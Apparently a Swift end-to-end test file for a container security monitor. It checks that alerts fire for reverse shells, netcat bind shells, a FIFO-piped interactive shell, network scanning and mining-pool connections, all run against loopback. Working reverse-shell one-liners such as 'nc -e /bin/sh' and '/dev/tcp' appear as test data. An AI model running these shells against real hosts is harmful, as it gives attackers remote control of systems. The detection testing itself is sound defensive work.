import Foundation
import Testing
import VigilTestSupport

/// Reverse shells, netcat remote execution and outbound connections, performed in real containers (network: the
/// container's own loopback only) while `vigil run` is live.
@Suite(.serialized, .enabled(if: E2E.available, "needs root and ../shared/lab"), .liveVigil("Network"))
struct NetworkTests {
    /// A listener in the container's loopback, started in `prepare` and ended with the container.
    static func listener(_ port: Int) -> String {
        "nc -l -p \(port) </dev/null >/dev/null 2>&1 &\nsleep 0.3"
    }

    static let vigilRules: [Behaviour] = [
        Behaviour(rule: "Netcat remote code execution", what: "nc -e /bin/sh 127.0.0.1 4444",
                  script: listener(4444) + "\nnc -e /bin/sh 127.0.0.1 4444 </dev/null; true", process: "nc", style: .docker),
        Behaviour(rule: "Netcat remote code execution", what: "nc -l -p 5555 -e /bin/sh (bind shell)",
                  script: "timeout 1 nc -l -p 5555 -e /bin/sh; true", process: "nc", style: .containerd),
        // busybox ash has no /dev/tcp; the rule is on the command line, which is what bash's one-liner shows.
        Behaviour(rule: "Reverse shell via dev tcp", what: "sh -c 'exec 3<>/dev/tcp/127.0.0.1/4444'",
                  script: "sh -c 'exec 3<>/dev/tcp/127.0.0.1/4444' 2>/dev/null; true", process: "sh", style: .crio),
        // The reverse shell that needs neither nc -e nor /dev/tcp: an interactive shell fed from a FIFO, its output
        // piped to nc, nc's output back into the FIFO. The listener hangs up at once; the pipeline then ends.
        Behaviour(rule: "Interactive shell without a terminal", what: "mkfifo f; cat f | sh -i 2>&1 | nc 127.0.0.1 4444 > f",
                  script: listener(4444) + "\nrm -f /tmp/f; mkfifo /tmp/f\n(cat /tmp/f | sh -i 2>&1 | nc 127.0.0.1 4444 > /tmp/f) &\n"
                      + "sleep 0.5\nkill $! 2>/dev/null; true",
                  process: "sh", style: .docker),
        // The image has no nmap: busybox copied under that name is exec'd (the rule looks at the exec).
        Behaviour(rule: "Network scanner or sniffer in container", what: "nmap -sT 127.0.0.1 (busybox as nmap)",
                  script: "nmap -sT 127.0.0.1; true", process: "nmap", style: .podman,
                  prepare: "mkdir -p /usr/local/bin && cp /bin/busybox /usr/local/bin/nmap"),
        Behaviour(rule: "Outbound connection to mining pool port", what: "nc 127.0.0.1 3333 (stratum port, loopback listener)",
                  script: listener(3333) + "\nnc -w 1 127.0.0.1 3333 </dev/null; true", process: "nc",
                  object: "127.0.0.1:3333", style: .podman),
    ]

    @Test(arguments: vigilRules)
    func vigilRule(_ b: Behaviour) throws {
        try expectAlert(b)
    }

    @Test func stockNetcatRemoteCodeExecution() throws {
        try expectAlert(
            Behaviour(rule: "Netcat Remote Code Execution in Container", what: "nc -e /bin/sh 127.0.0.1 4444",
                      script: Self.listener(4444) + "\nnc -e /bin/sh 127.0.0.1 4444 </dev/null; true", process: "nc"))
    }

    /// Class B: connect, then dup2 the socket onto stdin and stdout (what a reverse shell does first). Falco's rule
    /// needs the type of the duplicated fd (ipv4), which comes from the enricher's fd table (socket + connect).
    /// (busybox's nc rejects `-e` before the address, so the behaviour is e2etool's.)
    @Test func stockRedirectStdioToNetwork() throws {
        let session = try #require(E2ESession.current)
        guard session.hasTool else {
            Issue.record("no C compiler: e2etool (the redirecting client) could not be built")
            return
        }
        try expectAlert(
            Behaviour(rule: "Redirect STDOUT/STDIN to Network Connection in Container", what: "e2etool redirect 127.0.0.1 4444",
                      script: Self.listener(4444) + "\n/e2e/e2etool redirect 127.0.0.1 4444", process: "e2etool"))
    }

    /// Class B: a client named ssh connects to port 8080 of a public-looking address (198.51.100.7, added to the
    /// container's own lo with CAP_NET_ADMIN; nothing leaves the container's network namespace).
    @Test func stockSshToNonStandardPort() throws {
        let session = try #require(E2ESession.current)
        guard session.hasTool else {
            Issue.record("no C compiler: e2etool (the TCP client named ssh) could not be built")
            return
        }
        try expectAlert(
            Behaviour(rule: "Disallowed SSH Connection Non Standard Port", what: "/tmp/ssh connects to 198.51.100.7:8080",
                      script: "cp /e2e/e2etool /tmp/ssh\n/tmp/ssh tcp 198.51.100.7 8080", process: "ssh",
                      runOptions: ["--cap-add", "NET_ADMIN"],
                      prepare: "ip addr add 198.51.100.7/32 dev lo\n" + Self.listener(8080), attempt: false))
    }
}
